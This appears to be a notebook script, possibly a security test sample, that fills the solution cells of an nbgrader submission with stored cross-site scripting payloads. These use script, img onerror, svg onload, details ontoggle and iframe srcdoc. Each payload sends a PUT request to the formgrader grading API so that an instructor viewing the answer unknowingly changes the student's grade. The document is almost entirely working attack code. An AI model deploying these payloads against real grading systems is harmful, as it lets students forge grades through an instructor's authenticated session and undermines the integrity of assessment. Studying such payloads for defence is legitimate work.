# ---
# jupyter:
#   corpus:
#     title: scripts in a written answer
#     attempts: raises its own points with the instructor's session when formgrader shows the answer
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: []
#     reference: false
# ---

# %% build="submission"
ACT = "window.CANARY_answer=1;fetch('/formgrader/api/grade/1', {method: 'PUT', body: '{}'})"
for cell in notebook.cells:
    if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
        cell.source = (
            f"Odpowiedź <script>{ACT}</script>\n\n<img src=x: onerror=\"{ACT}\">\n\n<svg onload=\"{ACT}\"></svg>\n\n"
            f"<details open ontoggle=\"{ACT}\">x</details>\n\n<iframe srcdoc=\"<script>parent.{ACT}</script>\"></iframe>"
        )
